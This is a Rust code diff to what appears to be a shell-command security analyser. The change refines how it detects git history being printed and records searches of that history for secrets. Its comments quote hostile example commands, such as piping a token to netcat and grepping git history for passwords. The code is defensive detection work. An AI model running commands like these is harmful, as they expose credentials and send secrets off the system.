@@ -44,6 +44,9 @@ const HISTORY_PRINTERS: &[&str] = &[
     "stash",
 ];
 
+/// What a git command that prints the project's files or history reads: its `.git` folder.
+const HISTORY: &str = ".git";
+
 /// Whether a `git` command prints the project's files or history (its subcommand among
 /// [`HISTORY_PRINTERS`], or `log` / `whatchanged` with a patch: `-p`, `--patch`, `-u`).
 fn prints_history(c: &SimpleCommand) -> bool {
@@ -51,6 +54,20 @@ fn prints_history(c: &SimpleCommand) -> bool {
     let Some(sub) = pos.first().map(|a| a.text.as_str()) else {
         return false;
     };
+    // `git show --stat`, `git diff --name-only`: names and counts, no content (unless a
+    // patch is asked for as well).
+    let names_only = c.args.iter().any(|a| {
+        matches!(
+            a.text.as_str(),
+            "--stat" | "--shortstat" | "--numstat" | "--name-only" | "--name-status"
+        )
+    }) && !c
+        .args
+        .iter()
+        .any(|a| matches!(a.text.as_str(), "-p" | "--patch" | "-u"));
+    if names_only && matches!(sub, "diff" | "show") {
+        return false;
+    }
     HISTORY_PRINTERS.contains(&sub)
         || (matches!(sub, "log" | "whatchanged")
             && c.args
@@ -232,6 +249,7 @@ fn element(a: &ShellAnalysis, first: usize) -> std::ops::Range<usize> {
 /// `printf %s "$TOKEN" | nc host 80`), through filters (`| base64 |`).
 pub(super) fn through_pipes(a: &ShellAnalysis, spans: &[std::ops::Range<usize>], fx: &mut Effects) {
     if a.pipes.is_empty() {
+        super::search::history_searched(a, spans, &[], fx);
         return;
     }
     let effects_of = |r: std::ops::Range<usize>| -> Vec<usize> {
@@ -242,6 +260,8 @@ pub(super) fn through_pipes(a: &ShellAnalysis, spans: &[std::ops::Range<usize>],
     // What an element reads or prints, and what was piped into it, transitively.
     let mut fed: std::collections::HashMap<usize, Vec<BodySource>> =
         std::collections::HashMap::new();
+    // The commands the project's history is piped into.
+    let mut history: Vec<usize> = Vec::new();
     for &(from, to) in &a.pipes {
         let producer = element(a, from);
         let mut sources: Vec<BodySource> = fed.get(&from).cloned().unwrap_or_default();
@@ -258,7 +278,7 @@ pub(super) fn through_pipes(a: &ShellAnalysis, spans: &[std::ops::Range<usize>],
                 _ if prints_environment(c) => sources.push(BodySource::Environment),
                 // `git log -p`, `git diff`, `git show`: the project's files and history.
                 "git" if prints_history(c) => {
-                    sources.push(BodySource::File(PathRef::new(".git", c.cwd.as_deref())))
+                    sources.push(BodySource::File(PathRef::new(HISTORY, c.cwd.as_deref())))
                 }
                 "printenv" => sources.extend(
                     c.args
@@ -282,6 +302,13 @@ pub(super) fn through_pipes(a: &ShellAnalysis, spans: &[std::ops::Range<usize>],
             }
         }
         let consumer = element(a, to);
+        // `git log -p | grep -i password`: a search of the history for secret values.
+        if sources
+            .iter()
+            .any(|b| matches!(b, BodySource::File(f) if f.text == HISTORY))
+        {
+            history.extend(consumer.clone());
+        }
         let runs = consumer
             .clone()
             .any(|k| a.commands.get(k).is_some_and(runs_stdin));
@@ -314,4 +341,5 @@ pub(super) fn through_pipes(a: &ShellAnalysis, spans: &[std::ops::Range<usize>],
         }
         fed.entry(to).or_default().extend(sources);
     }
+    super::search::history_searched(a, spans, &history, fx);
 }
